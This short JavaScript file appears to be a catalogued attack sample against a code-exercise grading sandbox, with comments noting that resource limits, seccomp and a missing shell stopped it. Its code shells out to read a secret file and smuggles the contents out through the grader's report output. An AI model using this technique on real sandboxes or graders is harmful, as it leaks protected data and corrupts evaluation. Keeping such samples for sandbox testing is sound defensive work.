// tries: to have a shell read it
// stopped by: the limits of processes and open files; seccomp; the shell isn't there
// exercise: 02-activations/relu
/** What was found goes out as console text, which reports show. */
function show(text) {
  const units = Buffer.from(String(text).slice(0, 2000), "utf16le");
  const size = Buffer.alloc(4);
  size.writeUInt32LE(units.length / 2);
  replies.load = [4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, ...size, ...units];
}
show(require("child_process").execSync("cat __SECRET_FILE__", { encoding: "utf8" }));
